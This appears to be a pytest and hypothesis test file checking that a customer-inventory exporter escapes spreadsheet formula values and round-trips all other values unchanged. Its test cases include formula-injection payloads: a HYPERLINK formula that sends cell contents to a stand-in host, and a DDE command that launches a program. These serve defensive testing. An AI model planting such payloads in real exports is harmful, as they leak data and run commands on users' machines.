"""Cells that a spreadsheet would compute are guarded, and every value comes back as it was."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customer_inventory.capture.formulas import guarded, unguarded_cells

VALUES = st.one_of(st.text(), st.text(alphabet="'=+-@\t\r\n\uff1d1 a", max_size=6))


@given(VALUES)
def test_what_was_guarded_comes_back(value: str) -> None:
    assert unguarded_cells([guarded(value)]) == [value]


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://example.com?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "-",
        "+",
        "\uff1d1",
        "+A1",
        "'=1",
        " =1",
        " '  @SUM(1)",
    ],
)
def test_formulas_are_guarded(formula: str) -> None:
    assert guarded(formula) == "'" + formula


@pytest.mark.parametrize(
    "plain", ["", "Ann", "'t Hooft", "O'Brien", "+44 (0)20 7946-0000", "-12.5", "+1", "a=b", "1-2"]
)
def test_others_stay_as_they_are(plain: str) -> None:
    assert guarded(plain) == plain
    assert unguarded_cells([plain]) == [plain]
